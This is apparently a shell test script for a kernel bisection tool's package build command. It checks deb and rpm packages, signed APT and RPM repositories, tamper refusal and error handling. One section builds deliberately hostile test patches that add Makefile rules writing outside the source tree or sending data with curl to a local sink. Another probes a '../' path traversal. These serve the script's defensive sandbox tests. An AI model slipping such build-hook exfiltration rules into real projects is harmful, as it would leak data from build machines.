#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# bisectctl build: packages of a commit with a fix applied, from the
# kernel's own bindeb-pkg and binrpm-pkg; their release and versions
# carry the build's id and sort below the distribution's; the artifacts;
# the rpm installed into a scratch root; bad input.
PERSISTENT_CACHE=1
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/daemon-lib.sh"

eval "$("$TOP/build/tests/fixtures/kernel-history" --kind oops --seed 1)"
git -C "$REPO" diff "$CULPRIT" "$CULPRIT~1" -- kernel/reboot.c > "$SCRATCH/revert.patch"
out=$SCRATCH/build
expect_exit 0 "build deb and rpm packages of the culprit with the revert" \
	"$BISECTCTL" build --repo "$REPO" --commit "$CULPRIT" \
	--patch "$SCRATCH/revert.patch" --recipe tiny --format deb,rpm \
	--out "$out" --json "$SCRATCH/b.json"
sed 's/^/# /' "$SCRATCH/out"
id=$(jq -r .id "$SCRATCH/b.json")
rel=6.1.192-bisectd.$id
check "the release marks the build: $rel" \
	jq_true "$SCRATCH/b.json" ".release == \"$rel\" and .result == \"built\""
check "the patched kernel booted: the smoke test is good" \
	jq_true "$SCRATCH/b.json" '.smoke.verdict == "good"'
pk=$out/packages
deb=$(ls "$pk"/linux-image-"$rel"_*_amd64.deb 2> /dev/null)
check "a linux-image package of its own name" [ -f "$deb" ]
v=$(dpkg-deb -f "$deb" Version)
official=$(dpkg-query -W -f='${Version}' linux-source-6.1)
check "its version $v sorts below Debian's $official" \
	dpkg --compare-versions "$v" lt "$official"
check "it holds /boot/vmlinuz-$rel" \
	sh -c "dpkg-deb -c '$deb' | grep './boot/vmlinuz-$rel\$' > /dev/null"
check "no -dbg package" sh -c "! ls '$pk' | grep -q -- -dbg"
rpm=$(ls "$pk"/kernel-6.1.192~bisectd."$id"-*.x86_64.rpm 2> /dev/null)
check "a kernel rpm" [ -f "$rpm" ]
rv=$(rpm -qp --qf '%{VERSION}' "$rpm" 2> /dev/null)
check "rpm -qp: kernel, version $rv" \
	[ "$(rpm -qp --qf '%{NAME}' "$rpm" 2> /dev/null)" = kernel ]
check "which sorts below 6.1.192 for rpm" \
	[ "$(rpm --eval "%{lua: print(rpm.vercmp('$rv', '6.1.192'))}")" = -1 ]
check "rpm -qpl lists its /boot/vmlinuz" \
	sh -c "rpm -qpl '$rpm' 2> /dev/null | grep -q '^/boot/vmlinuz-6.1.192~bisectd.$id\$'"
check "rpm -qp --scripts shows its install scriptlets" \
	sh -c "rpm -qp --scripts '$rpm' 2> /dev/null | grep -q '^postinstall scriptlet'"
root=$SCRATCH/rpmroot
mkdir -p "$root"
rpm --root "$root" --initdb > /dev/null 2>&1
rpm --root "$root" -i --nodeps --noscripts "$rpm" > "$SCRATCH/rpm.out" 2>&1
check "rpm --root installs it into a scratch root" \
	[ -f "$root/boot/vmlinuz-6.1.192~bisectd.$id" ]
check "SHA256SUMS covers the packages" \
	sh -c "cd '$pk' && sha256sum -c --quiet SHA256SUMS && [ \$(wc -l < SHA256SUMS) -eq \$(ls *.deb *.rpm | wc -l) ]"
check "kernel.release, toolchain.txt, the config and the patch are kept" \
	sh -c "grep -qx '$rel' '$out/kernel.release' && grep -q '^gcc: gcc' '$out/toolchain.txt' && grep -q '^CONFIG_' '$out/config' && cmp -s '$out/patches/01-revert.patch' '$SCRATCH/revert.patch' && [ -s '$out/build.log' ]"
page=$pk/index.html
check "the download page: install, uname -r, uninstall, Secure Boot" \
	sh -c "grep -q 'sudo apt install ./linux-image-$rel' '$page' && grep -q 'uname -r' '$page' && grep -q 'sudo apt remove linux-image-$rel' '$page' && grep -q 'mokutil --sb-state' '$page' && grep -q 'rpm -ivh kernel-6.1.192~bisectd' '$page'"

# the same build as a job of bisectd, run by a worker; bisectd has a
# repository key, and publishes the build in its APT repository
make_tokens
fpr=$("$BISECTD" --state "$STATE" repo-key)
GNUPGHOME=$SCRATCH/home-gnupg # (--show-keys writes a trustdb there)
export GNUPGHOME
mkdir -m 700 "$GNUPGHOME"
check "bisectd repo-key made a key ($fpr)" \
	'[ ${#fpr} -eq 40 ] && [ "$(stat -c %a "$STATE/repo-key")" = 700 ] &&
	 gpg --show-keys --with-colons "$STATE/repo/apt/bisectd-archive-keyring.gpg" |
	 grep -q "^fpr:::::::::$fpr:"'
start_bisectd --lease 60
start_worker builder --recipes tiny --slot ''
"$BISECTCTL" --server "$URL" --token "$STOKEN" build --repo "$REPO" \
	--commit "$CULPRIT" --patch "$SCRATCH/revert.patch" --recipe tiny \
	--format deb,rpm --channel fix-12345 --json "$SCRATCH/job.json" \
	> "$SCRATCH/rout" 2> "$SCRATCH/rerr"
rc=$?
check "bisectctl --server build exits 0 (got $rc)" [ "$rc" -eq 0 ]
check "the build job ended: built" jq_true "$SCRATCH/job.json" '.result == "built"'
check "its step names the patches as applied (a diff by its file name)" \
	jq_true "$SCRATCH/job.json" '.steps[0].result.patches == ["revert.patch"]'
jid=$(jq .id "$SCRATCH/job.json")
sid=$(jq '.steps[0].id' "$SCRATCH/job.json")
curl -s "$URL/jobs/$jid/download" > "$SCRATCH/download.html"
check "bisectd's download page offers the image with its install command" \
	grep -q "sudo apt install ./linux-image-$rel" "$SCRATCH/download.html"
pkg=$(basename "$deb")
check "and links it as the step's artifact" \
	grep -q "href=\"/api/v1/jobs/$jid/steps/$sid/artifacts/$pkg\"" "$SCRATCH/download.html"
curl -s -o "$SCRATCH/dl.deb" "$URL/api/v1/jobs/$jid/steps/$sid/artifacts/$pkg"
curl -s -o "$SCRATCH/SUMS" "$URL/api/v1/jobs/$jid/steps/$sid/artifacts/SHA256SUMS"
check "the downloaded package matches its SHA256SUMS line" \
	[ "$(sha256sum < "$SCRATCH/dl.deb" | cut -d' ' -f1)" = "$(grep " $pkg\$" "$SCRATCH/SUMS" | cut -d' ' -f1)" ]

# the APT repository: apt on this machine, with lists, cache and sources
# of its own, checks the signature with the key given by signed-by
suite=bisectd-$jid
sed 's/^[0-9a-f]*  *//' "$SCRATCH/SUMS" > "$SCRATCH/SUMS.names"
for _ in $(seq 120); do
	[ "$(curl -s -o /dev/null -w '%{http_code}' "$URL/repo/apt/dists/$suite/InRelease")" = 200 ] && break
	sleep 0.5
done
A=$SCRATCH/apt
mkdir -p "$A/lists/partial" "$A/cache/archives/partial" "$A/parts" "$A/get"
curl -s -o "$A/keyring.gpg" "$URL/repo/apt/bisectd-archive-keyring.gpg"
aptget() { # aptget SUITE ARGS...: apt-get against bisectd's suite alone
	echo "deb [signed-by=$A/keyring.gpg] $URL/repo/apt $1 main" > "$A/sources.list"
	shift
	(cd "$A/get" && apt-get -q -o Dir::Etc::SourceList="$A/sources.list" \
		-o Dir::Etc::SourceParts="$A/parts" -o Dir::State::Lists="$A/lists" \
		-o Dir::Cache="$A/cache" -o APT::Sandbox::User=root \
		-o Debug::NoLocking=1 "$@") > "$A/out" 2>&1
}
check "apt update of the build's suite: its signature is good" \
	'aptget "$suite" update && ! grep -q "^[WE]:" "$A/out"'
check "apt download gets the image, the same bytes" \
	'aptget "$suite" download "linux-image-$rel" &&
	 cmp -s "$A/get/$pkg" "$SCRATCH/dl.deb"'
check "only the kernel's own packages are in it: the built linux-libc-dev is not" \
	'curl -s "$URL/repo/apt/dists/$suite/main/binary-amd64/Packages" |
	 sed -n "s/^Package: //p" | sort > "$A/names" && [ -s "$A/names" ] &&
	 ! grep -qv "^linux-\(image\|headers\)-$rel\(-dbg\)\?\$" "$A/names" &&
	 grep -q "^linux-libc-dev_.*\.deb\$" "$SCRATCH/SUMS.names"'
rm -f "$A/get"/*.deb
check "the channel fix-12345 is a signed suite with the same image" \
	'aptget fix-12345 update && ! grep -q "^[WE]:" "$A/out" &&
	 aptget fix-12345 download "linux-image-$rel" && cmp -s "$A/get/$pkg" "$SCRATCH/dl.deb"'
check "the download page gives the lines to paste and the fingerprint" \
	'curl -s "$URL/jobs/$jid/download" > "$SCRATCH/download.html" &&
	 grep -q "deb \[signed-by=/usr/share/keyrings/bisectd-archive-keyring.gpg\] $URL/repo/apt $suite main" "$SCRATCH/download.html" &&
	 grep -q "$fpr" "$SCRATCH/download.html" && grep -q "<code>fix-12345</code>" "$SCRATCH/download.html"'
# tampered with, the repository is refused
dists=$STATE/repo/apt/dists/$suite
cp "$dists/main/binary-amd64/Packages" "$SCRATCH/Packages.kept"
sed -i 's/^Description: .*/Description: changed/' "$dists/main/binary-amd64/Packages"
rm -rf "$A/lists"; mkdir -p "$A/lists/partial"
check "a changed Packages file: apt refuses it" \
	'! aptget "$suite" update || grep -q "^E:" "$A/out"'
grep '^[WE]:' "$A/out" | sed 's/^/# /'
cp "$SCRATCH/Packages.kept" "$dists/main/binary-amd64/Packages"
mv "$dists/InRelease" "$SCRATCH/InRelease.kept"
mv "$dists/Release.gpg" "$SCRATCH/Release.gpg.kept"
rm -rf "$A/lists"; mkdir -p "$A/lists/partial"
check "an unsigned Release: apt refuses it" \
	'! aptget "$suite" update && grep -q "is not signed" "$A/out"'
mv "$SCRATCH/InRelease.kept" "$dists/InRelease"
mv "$SCRATCH/Release.gpg.kept" "$dists/Release.gpg"
# the RPM repository, with dnf (its metadata's signature: repo_gpgcheck)
# in an install root of its own, and rpm -K (the package's)
R=$SCRATCH/dnf
mkdir -p "$R/root" "$R/repos" "$R/db"
rpmpkg=$(cd "$pk" && ls kernel-6.1.192~bisectd*.rpm | grep -v headers | head -n 1)
dnfq() { # dnfq REPO ARGS...: dnf against bisectd's repository alone
	printf '[b]\nname=bisectd\nbaseurl=%s\ngpgcheck=1\nrepo_gpgcheck=1\ngpgkey=%s\n' \
		"$URL/repo/rpm/$1" "$URL/repo/rpm/RPM-GPG-KEY-bisectd" > "$R/repos/b.repo"
	shift
	timeout 300 dnf -y -q --installroot="$R/root" --setopt=reposdir="$R/repos" \
		--setopt=cachedir="$R/cache" --setopt=skip_if_unavailable=False \
		--releasever=12 --disableplugin='*' \
		"$@" > "$R/out" 2>&1
}
check "dnf reads the build's RPM repository, its metadata signed" \
	'dnfq "$suite" repoquery --repo b kernel && grep -q "^kernel-0:6.1.192~bisectd" "$R/out"'
check "the package there is signed with the repository key" \
	'curl -s -o "$R/k.rpm" "$URL/repo/rpm/$suite/$rpmpkg" &&
	 rpm --dbpath "$R/db" --import "$STATE/repo/rpm/RPM-GPG-KEY-bisectd" &&
	 rpm --dbpath "$R/db" -K "$R/k.rpm" | grep -q "digests signatures OK"'
check "the channel is an RPM repository too" \
	'rm -rf "$R/cache" && dnfq fix-12345 repoquery --repo b kernel && grep -q "^kernel-0:6.1.192~bisectd" "$R/out"'
md=$STATE/repo/rpm/$suite/repodata/repomd.xml
cp "$md" "$SCRATCH/repomd.kept"
sed -i 's|<revision>|<revision>1|' "$md"
check "a changed repomd.xml: dnf refuses it" \
	'rm -rf "$R/cache" && ! dnfq "$suite" repoquery --repo b kernel &&
	 grep -q "Bad GPG signature" "$R/out"'
sed 's/^/# /' "$R/out" | tail -n 2
cp "$SCRATCH/repomd.kept" "$md"
for d in "$R"/cache/*/pubring; do # dnf left gpg-agents for its keyrings
	gpgconf --homedir "$d" --kill gpg-agent 2> /dev/null
done
check "a path outside the repository is not served" \
	'[ "$(curl -s -o /dev/null -w "%{http_code}" --path-as-is "$URL/repo/apt/../state.db")" = 404 ] &&
	 [ "$(curl -s -o /dev/null -w "%{http_code}" "$URL/repo/apt/dists/.$suite")" = 404 ]'

# untrusted patches build in the sandbox: a Makefile that writes outside
# the tree, or reaches the network, fails the build and changes nothing
git -C "$REPO" show "$CULPRIT:kernel/Makefile" > "$SCRATCH/Makefile.a"
evil() { # evil NAME RECIPE-LINE: a patch adding a rule to kernel/Makefile
	cp "$SCRATCH/Makefile.a" "$SCRATCH/Makefile.b"
	printf '\n$(obj)/reboot.o: $(obj)/%s.stamp\n$(obj)/%s.stamp: FORCE\n\t%s\n\ttouch $@\n' \
		"$1" "$1" "$2" >> "$SCRATCH/Makefile.b"
	diff -u --label a/kernel/Makefile --label b/kernel/Makefile \
		"$SCRATCH/Makefile.a" "$SCRATCH/Makefile.b" > "$SCRATCH/$1.patch"
}
# (outside /tmp, which is private in the sandbox: the cache's top)
escaped=$BISECTD_CACHE/escaped.$$
evil write "echo escaped > $escaped"
"$TOP/build/tests/fixtures/hook-sink" "$SCRATCH/sink.port" "$SCRATCH" 0 &
sink=$!
for _ in $(seq 50); do [ -s "$SCRATCH/sink.port" ] && break; sleep 0.1; done
evil net "curl -s -m 5 -d leak http://127.0.0.1:$(cat "$SCRATCH/sink.port")/"
for p in write net; do
	expect_exit 1 "a patch that tries to $p outside: the build fails" \
		"$BISECTCTL" build --repo "$REPO" --commit "$CULPRIT" \
		--patch "$SCRATCH/$p.patch" --recipe tiny --out "$SCRATCH/evil-$p"
	check "and it says where" grep -q "$p.stamp" "$SCRATCH/evil-$p/build.log"
done
check "nothing was written outside" [ ! -e "$escaped" ]
rm -f "$escaped"
check "nothing reached the network" [ ! -e "$SCRATCH/hook-1.json" ]
kill "$sink"

# a base given as a Debian source package version: the installed one is
# imported from /usr/src once (the same tree as the fixture's import)
expect_exit 0 "a build of Debian's linux-source-6.1 $official" "$BISECTCTL" build \
	--source "$official" --recipe tiny --format deb --out "$SCRATCH/src" \
	--json "$SCRATCH/src.json"
check "its base is the tag debian/$official, the source tarball's tree" \
	'[ "$(git -C "$REPO" rev-parse "debian/$official^{tree}")" = "$(git -C "$REPO" rev-parse "$GOOD^{tree}")" ] &&
	 jq_true "$SCRATCH/src.json" ".result == \"built\" and .base == \"$(git -C "$REPO" rev-parse "debian/$official")\""'
expect_exit 2 "a version apt does not know" "$BISECTCTL" build \
	--source 6.1.0-nosuch --recipe tiny --out "$SCRATCH/nosuch"
check "says the version is unknown" grep -q "unknown source version '6.1.0-nosuch'" "$SCRATCH/err"

# signing with a MOK key: the tiny kernel is no EFI image, so it cannot
# be signed; that is said, and no packages are left
mkdir -p "$SCRATCH/keys"
openssl req -new -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=bisectd test MOK/" \
	-keyout "$SCRATCH/keys/MOK.key" -out "$SCRATCH/keys/MOK.crt" > /dev/null 2>&1
expect_exit 2 "signing a kernel without an EFI stub" "$BISECTCTL" build \
	--repo "$REPO" --commit "$CULPRIT" --recipe tiny \
	--sign-key "$SCRATCH/keys/MOK.key" --sign-cert "$SCRATCH/keys/MOK.crt" \
	--out "$SCRATCH/signed"
check "says it is not an EFI image" \
	sh -c "tail -n 1 '$SCRATCH/err' | grep -q 'not an EFI image'"
check "and leaves no packages" [ ! -e "$SCRATCH/signed/packages" ]
expect_exit 2 "a key without a certificate" "$BISECTCTL" build \
	--repo "$REPO" --commit "$CULPRIT" --recipe tiny \
	--sign-key "$SCRATCH/keys/MOK.key" --out "$SCRATCH/signed2"
one_line_error "signing needs both --sign-key and --sign-cert"

# bad input: one line, exit 2, nothing written
expect_exit 2 "an unknown package format" "$BISECTCTL" build --repo "$REPO" \
	--commit "$CULPRIT" --recipe tiny --format zip --out "$SCRATCH/bad1"
one_line_error "unknown package format 'zip': deb or rpm"
expect_exit 2 "a missing recipe" "$BISECTCTL" build --repo "$REPO" \
	--commit "$CULPRIT" --recipe nosuch --out "$SCRATCH/bad2"
: > "$SCRATCH/empty.patch"
expect_exit 2 "an empty patch" "$BISECTCTL" build --repo "$REPO" \
	--commit "$CULPRIT" --recipe tiny --patch "$SCRATCH/empty.patch" --out "$SCRATCH/bad3"
sed 's/reboot_defaults/reboot_settings/' "$SCRATCH/revert.patch" > "$SCRATCH/other.patch"
expect_exit 2 "a patch for another tree" "$BISECTCTL" build --repo "$REPO" \
	--commit "$CULPRIT" --recipe tiny --patch "$SCRATCH/other.patch" --out "$SCRATCH/bad4"
check "the error names the patch, the file and the hunk" \
	sh -c "tail -n 1 '$SCRATCH/err' | grep -q \"other.patch' does not apply: file 'kernel/reboot.c', hunk 1\""
check "bad input left no output directory" \
	sh -c "! ls -d '$SCRATCH'/bad* '$SCRATCH/nosuch' 2> /dev/null"

# a full disk in the build directory: a small tmpfs as the cache
if [ "$(id -u)" = 0 ] && mkdir -p "$SCRATCH/full" &&
	mount -t tmpfs -o size=64m tmpfs "$SCRATCH/full"; then
	BISECTD_CACHE=$SCRATCH/full expect_exit 3 "a full disk in the work directory" \
		"$BISECTCTL" build --repo "$REPO" --commit "$CULPRIT" \
		--recipe tiny --out "$SCRATCH/fullout"
	check "the last line says why: no space left" \
		sh -c "tail -n 1 '$SCRATCH/err' | grep -q '^bisectctl: infrastructure failure: .*No space left on device'"
	check "and no packages, half-made or whole, are left" \
		'[ ! -e "$SCRATCH/fullout/packages" ] && [ ! -e "$SCRATCH/fullout/packages.partial" ]'
	umount "$SCRATCH/full"
fi
done_testing
